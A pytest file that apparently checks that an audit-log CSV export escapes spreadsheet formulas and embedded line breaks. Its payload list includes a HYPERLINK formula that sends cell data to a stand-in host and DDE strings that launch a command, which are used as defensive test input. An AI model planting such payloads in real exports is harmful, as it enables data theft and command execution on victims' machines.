"""Nobody writes into the audit log what a spreadsheet would carry out."""

import csv
import io
from typing import Any

import pytest

from rtk.console.people import audit, memberships
from tests.console.people.world import World, signed_in

FORMULAS = [
    '=HYPERLINK("http://evil.example.net?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def cells(world: World) -> list[str]:
    """Every cell of the table that is downloaded, but its head."""
    answer: Any = signed_in(world.owner).get("/acme/audit.csv")
    return [cell for row in list(csv.reader(io.StringIO(answer.getvalue().decode())))[1:] for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_download_is_a_formula(world: World, formula: str) -> None:
    world.owner.email = formula
    audit.record(world.org, world.owner, formula, formula, {formula: formula})
    found = cells(world)
    assert not [cell for cell in found if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert sum(formula.strip() in cell for cell in found) >= 3


def test_a_team_named_as_a_formula_is_text_in_the_download(world: World) -> None:
    memberships.make_team(world.owner, world.org, "=cmd|' /C calc'!A0")
    assert "'=cmd|' /C calc'!A0" in cells(world)


def test_a_name_of_two_lines_is_one_row(world: World) -> None:
    audit.record(world.org, world.owner, "team.created", 'Shop\r\n2026-01-01,"adam@example.org",,team.deleted,Bank')
    answer: Any = signed_in(world.owner).get("/acme/audit.csv")
    assert len(list(csv.reader(io.StringIO(answer.getvalue().decode())))) == 2
